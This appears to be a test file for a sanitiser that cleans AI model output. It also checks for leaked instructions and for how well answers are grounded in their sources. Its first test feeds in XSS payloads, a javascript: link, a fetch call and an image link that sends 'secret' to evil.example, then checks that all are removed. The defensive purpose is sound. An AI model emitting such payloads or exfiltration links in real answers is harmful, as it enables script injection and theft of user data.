import { repeatsInstructions, sanitiseModelMarkdown, supportShare } from '../../../src/llm';

describe('model output guard', () => {
  it('keeps plain Markdown and removes HTML, images, links, code fences and invisible characters', () => {
    const sources = ['Open https://passwords.example.com and choose Forgot password.'];
    const raw = [
      '**Reset** it on the portal:',
      '1. Open https://passwords.example.com',
      '2. <script>alert(1)</script><img src=x onerror=alert(1)>Choose [Forgot password](javascript:alert(1))',
      '![pixel](https://evil.example/c?d=secret) [more](https://evil.example/x) https://evil.example/y',
      '```js\nfetch("https://evil.example")\n```',
      'Done\u202e.',
    ].join('\n');
    const clean = sanitiseModelMarkdown(raw, sources);
    expect(clean).toContain('**Reset** it on the portal:');
    expect(clean).toContain('https://passwords.example.com');
    expect(clean).toContain('Choose Forgot password');
    expect(clean).not.toMatch(/<|javascript:|evil\.example|```|\u202e/);
  });

  it('cuts long answers', () => {
    expect(sanitiseModelMarkdown('word '.repeat(1000)).length).toBeLessThanOrEqual(1500);
  });

  it('spots six words in a row of the instructions, however the quote is framed', () => {
    const instructions = 'You answer the question using only the knowledge articles given with it.';
    expect(repeatsInstructions('Sure! "you ANSWER the question, using only" the rest', instructions)).toBe(
      true,
    );
    expect(repeatsInstructions('You can answer using the portal.', instructions)).toBe(false);
  });

  it('measures how much of an answer comes from its sources', () => {
    const sources = ['Restart the printer and check the network cable.'];
    expect(supportShare('Restart the printers and check the cable.', sources)).toBe(1);
    expect(supportShare('Bananas are yellow tropical fruits.', sources)).toBe(0);
  });
});
